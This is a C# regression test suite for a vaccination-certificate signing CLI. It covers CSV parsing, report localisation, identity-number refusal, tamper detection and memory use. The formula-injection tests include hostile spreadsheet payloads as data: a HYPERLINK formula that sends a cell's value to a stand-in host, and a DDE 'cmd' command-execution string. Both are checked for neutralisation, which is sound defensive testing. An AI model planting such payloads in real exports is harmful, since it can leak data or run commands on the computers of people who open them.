using System.Text;
using System.Text.RegularExpressions;
using Spectre.Console;
using VaxCert.Cli.Commands;
using VaxCert.Core.Pki;
using VaxCert.Core.Signing;
using VaxCert.Issuing.Facility;
using VaxCert.Testing;

namespace VaxCert.Cli.Tests;

/// <summary>
/// Regression tests for the facility findings of issues #12 (items 2, 7, 8, 11) and #14, driven through the `facility sign`
/// and `issue` actions with the committed dev keys, on the files a facility or the ministry really gets.
/// </summary>
public sealed partial class FacilityExportRegressionTests
{
    private const string Header =
        "record_id,citizen_id,sex,family_name,given_name,date_of_birth,nationality,targeted_disease,total_doses,date_of_vaccination,dose_number,vaccine_type,vaccine_product,manufacturer";

    private const string GoodRow = "R1,001187012345,Nữ,Nguyễn,Thị Minh Khai,1987-05-23,VN,,2,2021-08-20,2,1119349007,EU/1/20/1528,ORG-100030215";
    private const string GoodRow2 = "R2,079090001234,M,Trần,Văn An,1990-01-02,VN,840539006,2,2021-09-01,1,1119349007,EU/1/20/1528,ORG-100030215";

    private static readonly string Keys = RepoPaths.KeysDev;

    private static ICoseSigner Facility() => SoftwareCoseSigner.FromPemFiles(Path.Combine(Keys, DevPkiLayout.FacilityCertificate("HN001")),
        Path.Combine(Keys, DevPkiLayout.FacilityKey("HN001")));

    private static ICoseSigner Dsc() => SoftwareCoseSigner.FromPemFiles(Path.Combine(Keys, DevPkiLayout.DscEs256Certificate),
        Path.Combine(Keys, DevPkiLayout.DscEs256Key));

    private static IAnsiConsole Console(StringWriter w) => AnsiConsole.Create(new AnsiConsoleSettings
    {
        Out = new AnsiConsoleOutput(w), Interactive = InteractionSupport.No, Ansi = AnsiSupport.No,
    });

    private sealed record SignOutcome(int Exit, string Log, string Dir, string Bundle, string Report);

    private static SignOutcome Sign(string exportText, string facilityCode = "HN001", string name = "export.csv")
    {
        var dir = RepoPaths.NewTempDir("facility-regress");
        var export = Path.Combine(dir, name);
        File.WriteAllText(export, exportText, new UTF8Encoding(false));
        return SignFile(export, dir, facilityCode);
    }

    private static SignOutcome SignFile(string export, string dir, string facilityCode = "HN001")
    {
        var bundle = Path.Combine(dir, "bundle.jsonl");
        var report = Path.Combine(dir, "rejections.csv");
        var w = new StringWriter();
        var exit = FacilitySign.Run(export, bundle, report, facilityCode, Facility, Console(w));
        return new SignOutcome(exit, w.ToString(), dir, bundle, report);
    }

    // The report's data rows as cells (RFC 4180, the writer never splits a cell across lines here).
    private static List<string[]> ReportRows(string report) =>
        File.ReadAllLines(report, Encoding.UTF8).Skip(1).Select(l => CsvCells().Matches(l).Select(Unquote).ToArray()).ToList();

    private static string Unquote(Match m)
    {
        var v = m.Groups[1].Value;
        return v.StartsWith('"') ? v[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : v;
    }

    [GeneratedRegex("(?:^|,)(\"(?:[^\"]|\"\")*\"|[^,]*)")]
    private static partial Regex CsvCells();

    // ---- issue #12 item 7: spreadsheet formula injection ----

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)")]
    public void A_record_id_that_is_a_formula_is_neutralised_in_the_rejection_report(string recordId)
    {
        // The row is rejected (bad CCCD), so its record id lands in the report.
        var quoted = "\"" + recordId.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var outcome = Sign(Header + "\n" + quoted + ",00118701234X,Nữ,Nguyễn,An,1987-05-23,VN,,2,2021-08-20,2,1119349007,EU/1/20/1528,ORG-100030215\n");
        Assert.Equal(FacilitySign.SomeRejected, outcome.Exit);
        var cells = ReportRows(outcome.Report).SelectMany(r => r).ToList();
        Assert.Contains("'" + recordId, cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
    }

    [Fact]
    public void A_formula_record_id_in_a_bundle_is_neutralised_in_refusals_csv()
    {
        var signed = Sign(Header + "\n" + GoodRow + "\n");
        Assert.Equal(FacilitySign.AllSigned, signed.Exit);
        // The ministry reads the bundle as untrusted: the record id and the dose were changed after signing.
        var line = File.ReadAllLines(signed.Bundle)[0].Replace("\"record_id\":\"R1\"", "\"record_id\":\"@SUM(1+1)\"", StringComparison.Ordinal)
            .Replace("\"dn\":2", "\"dn\":1", StringComparison.Ordinal);
        var evil = Path.Combine(signed.Dir, "evil.jsonl");
        File.WriteAllText(evil, line + "\n");
        var outDir = Path.Combine(signed.Dir, "issued");
        Assert.Equal(IssueRun.SomeRefused, IssueRun.Run(evil, outDir, Keys, false, false, Dsc, Console(new StringWriter())));
        var refusal = Assert.Single(ReportRows(Path.Combine(outDir, "refusals.csv")));
        Assert.Equal("'@SUM(1+1)", refusal[2]);
        Assert.Equal("RecordChangedAfterSigning", refusal[3]);
    }

    // ---- issue #12 item 8: line ends, header problems ----

    [Theory]
    [InlineData("\r")]
    [InlineData("\n")]
    [InlineData("\r\n")]
    public void Every_line_end_convention_reads_the_same_rows(string lineEnd)
    {
        var outcome = Sign(Header + lineEnd + GoodRow + lineEnd + GoodRow2 + lineEnd);
        Assert.Equal(FacilitySign.AllSigned, outcome.Exit);
        Assert.Equal(2, File.ReadAllLines(outcome.Bundle).Length);
        Assert.Contains("signed 2", outcome.Log);
    }

    [Theory]
    [InlineData(";", "';' (semicolon)")]
    [InlineData("\t", "tab")]
    public void A_header_with_another_separator_is_one_error_naming_the_missing_columns_and_the_separator(string separator, string seen)
    {
        var outcome = Sign(Header.Replace(",", separator, StringComparison.Ordinal) + "\n" +
                           GoodRow.Replace(",", separator, StringComparison.Ordinal) + "\n" + GoodRow2.Replace(",", separator, StringComparison.Ordinal) + "\n");
        Assert.Equal(FacilitySign.Failed, outcome.Exit);
        var lines = outcome.Log.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Single(lines);
        Assert.StartsWith("error: ", lines[0]);
        foreach (var column in ExportFile.RequiredColumns) Assert.Contains(column, lines[0]);
        Assert.Contains("separator seen in the header: " + seen, lines[0]);
        Assert.False(File.Exists(outcome.Bundle));
        Assert.False(File.Exists(outcome.Report));
    }

    [Fact]
    public void A_header_lacking_columns_names_exactly_those_columns()
    {
        var header = Header.Replace(",dose_number", "", StringComparison.Ordinal).Replace(",manufacturer", "", StringComparison.Ordinal);
        var outcome = Sign(header + "\nR1,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,2,2021-08-20,1119349007,EU/1/20/1528\n");
        Assert.Equal(FacilitySign.Failed, outcome.Exit);
        Assert.Contains("lacks 2 required column(s): dose_number, manufacturer;", outcome.Log);
        Assert.Contains("separator seen in the header: ',' (comma)", outcome.Log);
    }

    // ---- issue #14: input normalisation, complete reports, clear errors ----

    [Fact]
    public void A_decomposed_NFD_sex_and_doubled_spaces_are_normalised_before_the_checks()
    {
        var nfd = GoodRow.Replace("Nữ", "Nữ".Normalize(NormalizationForm.FormD), StringComparison.Ordinal)
            .Replace("Thị Minh Khai", "Thị  Minh   Khai".Normalize(NormalizationForm.FormD), StringComparison.Ordinal);
        Assert.NotEqual(GoodRow, nfd);
        var outcome = Sign(Header + "\n" + nfd + "\n");
        Assert.Equal(FacilitySign.AllSigned, outcome.Exit);
        var entry = BundleEntry.TryParse(File.ReadAllLines(outcome.Bundle)[0])!;
        Assert.Equal("Thị Minh Khai", entry.Record.GivenName);
        Assert.True(entry.Record.GivenName.IsNormalized(NormalizationForm.FormC));
    }

    [Fact]
    public void Every_problem_of_a_row_is_reported_at_once_each_with_its_record_id()
    {
        // A bad CCCD, a vaccine product that is not in the EU value set and a dose that is not a number, in one row.
        var outcome = Sign(Header + "\nHN-77,07909000123X,F,Lê,Lan,1990-01-02,VN,,2,2021-09-01,x,1119349007,EU/1/20/9999,ORG-100030215\n");
        Assert.Equal(FacilitySign.SomeRejected, outcome.Exit);
        var rows = ReportRows(outcome.Report);
        Assert.Contains(rows, r => r[2] == "citizen_id");
        Assert.Contains(rows, r => r[2] == "vaccine_product" && r[3] == "NotInValueSet");
        Assert.Contains(rows, r => r[2] == "dose_number" && r[3] == "Format");
        Assert.All(rows, r => Assert.Equal(["1", "HN-77"], r[..2]));
    }

    [Fact]
    public void Vietnamese_report_text_says_as_much_as_the_English_and_names_no_English_field()
    {
        var rows = new[]
        {
            "A1,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,2,2021-08-20,2,1119349007,EU/1/20/9999,ORG-100030215", // product unknown
            "A2,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,2,2021-08-20,12,1119349007,EU/1/20/1528,ORG-100030215", // dose 12
            "A3,001187012345,Nữ,Nguyễn,An,1987-05-23,ZZ,,2,2021-08-20,2,1119349007,EU/1/20/1528,ORG-100030215", // nationality
            "A4,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,2,2019-08-20,2,1119349007,EU/1/20/1528,ORG-100030215", // too early
            "A5,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,2,2021-08-20,2,1119349007,EU/1/20/1528,ORG-100001699", // wrong holder
            "A6,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,2,2021-08-20,2,J07BX03,EU/1/20/1528,ORG-100030215", // wrong type
            "A7,001187012345,Nữ,Nguyễn,An,2031-05-23,VN,,2,2021-08-20,2,1119349007,EU/1/20/1528,ORG-100030215", // dob
            "A8,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,2,21-08-20,2,1119349007,EU/1/20/1528,ORG-100030215", // date format
            "A9,001187012345,Nữ,Nguyễn,An,1987-05-23,VN,,,2021-08-20,2,1119349007,EU/1/20/1528,ORG-100030215", // missing total
        };
        var outcome = Sign(Header + "\n" + string.Join("\n", rows) + "\n");
        var report = ReportRows(outcome.Report);
        Assert.Equal(rows.Length, report.Select(r => r[1]).Distinct().Count());
        var englishNames = ExportFile.RequiredColumns.Append("targeted_disease")
            .Concat(["DoseNumber", "TotalDoses", "VaccineProduct", "Manufacturer", "VaccineType", "DateOfBirth", "DateOfVaccination", "Nationality"]);
        foreach (var r in report)
        {
            var (vi, en) = (r[4], r[5]);
            foreach (var name in englishNames) Assert.DoesNotContain(name, vi);
            Assert.DoesNotMatch(@"\b(the|must|is|not|value set)\b", vi);
            foreach (Match value in Regex.Matches(en, @"'[^']*'|\d+"))
                Assert.True(vi.Contains(value.Value, StringComparison.Ordinal), $"'{vi}' lacks {value.Value} of '{en}'");
        }
    }

    [Fact]
    public void A_key_of_another_facility_leaves_no_bundle_file()
    {
        var outcome = Sign(Header + "\n" + GoodRow + "\n", facilityCode: "HCM01");
        Assert.Equal(FacilitySign.Failed, outcome.Exit);
        Assert.Equal("error: the signing certificate is for facility 'HN001', not 'HCM01'", outcome.Log.Trim());
        Assert.False(File.Exists(outcome.Bundle));
    }

    [Fact]
    public void A_missing_input_file_is_one_clear_error_line()
    {
        var dir = RepoPaths.NewTempDir("facility-regress");
        var missing = Path.Combine(dir, "no-such-export.csv");
        var outcome = SignFile(missing, dir);
        Assert.Equal(FacilitySign.Failed, outcome.Exit);
        Assert.Equal($"error: the export file '{missing}' does not exist", outcome.Log.Trim());
        Assert.False(File.Exists(outcome.Bundle));
    }

    // ---- issue #12 item 2: personal identifiers as record ids ----

    [Theory]
    [InlineData("001187012345")] // CCCD
    [InlineData("123456789")] // CMND
    [InlineData("C1234567")] // passport
    [InlineData("ID-001187012345")] // CCCD inside
    public void A_record_id_that_looks_like_an_identity_number_is_refused_and_never_copied(string recordId)
    {
        var outcome = Sign(Header + "\n" + GoodRow.Replace("R1,", recordId + ",", StringComparison.Ordinal) + "\n");
        Assert.Equal(FacilitySign.SomeRejected, outcome.Exit);
        var rows = ReportRows(outcome.Report);
        Assert.Contains(rows, r => r[2] == "record_id" && r[3] == "PersonalIdentifier");
        Assert.All(rows, r => Assert.Equal("", r[1]));
        Assert.DoesNotContain(recordId, File.ReadAllText(outcome.Report));
        Assert.DoesNotContain(recordId, outcome.Log);
        Assert.Equal(0, File.Exists(outcome.Bundle) ? File.ReadAllLines(outcome.Bundle).Length : 0);
    }
}

/// <summary>Runs alone: it reads the live heap of the whole test process, which other tests running in parallel would fill.</summary>
[CollectionDefinition(nameof(MemoryMeasurement), DisableParallelization = true)]
public sealed class MemoryMeasurement;

/// <summary>Issue #12 item 11: a large export streams through `facility sign` in bounded memory.</summary>
[Collection(nameof(MemoryMeasurement))]
public sealed class FacilityExportMemoryTests
{
    [Fact]
    public void Signing_memory_does_not_grow_with_the_export()
    {
        // 40,000 rows: the old reader held every row (about 2.3 KB each: 90 MB here, 2.3 GB at a million). Streaming keeps
        // the live heap to the record-id digests, well under 300 bytes a row. Measured as the peak live heap (full GCs) seen
        // by a sampler during the run, over the live heap before it.
        const int rows = 40_000;
        var dir = RepoPaths.NewTempDir("facility-memory");
        var export = Path.Combine(dir, "export.csv");
        SyntheticExport.WriteCsv(export, rows);
        var baseline = GC.GetTotalMemory(forceFullCollection: true);
        long peak = baseline;
        using var stop = new CancellationTokenSource();
        var sampler = new Thread(() =>
        {
            while (!stop.IsCancellationRequested)
            {
                var live = GC.GetTotalMemory(forceFullCollection: true);
                Interlocked.Exchange(ref peak, Math.Max(Interlocked.Read(ref peak), live));
                Thread.Sleep(25);
            }
        }) { IsBackground = true };
        sampler.Start();
        var exit = FacilitySign.Run(export, Path.Combine(dir, "bundle.jsonl"), Path.Combine(dir, "rejections.csv"), "HN001",
            () => SoftwareCoseSigner.FromPemFiles(Path.Combine(RepoPaths.KeysDev, DevPkiLayout.FacilityCertificate("HN001")),
                Path.Combine(RepoPaths.KeysDev, DevPkiLayout.FacilityKey("HN001"))),
            AnsiConsole.Create(new AnsiConsoleSettings { Out = new AnsiConsoleOutput(new StringWriter()), Interactive = InteractionSupport.No }));
        stop.Cancel();
        sampler.Join();
        Assert.Equal(FacilitySign.AllSigned, exit);
        var growth = Interlocked.Read(ref peak) - baseline;
        Assert.True(growth < rows * 300L, $"the live heap grew by {growth:N0} bytes for {rows:N0} rows ({growth / rows:N0} bytes a row)");
    }
}
